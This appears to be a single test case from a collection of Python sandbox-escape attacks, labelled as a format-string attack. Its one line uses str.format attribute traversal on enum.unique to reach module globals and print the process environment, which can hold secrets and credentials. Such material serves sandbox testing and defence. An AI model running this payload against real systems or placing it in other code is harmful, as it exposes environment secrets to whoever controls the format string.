# attack: a format string walks from a function to its globals and prints the environment
# family: format
import enum
print("REACHED", "{0.__globals__[sys].modules[os].environ}".format(enum.unique))
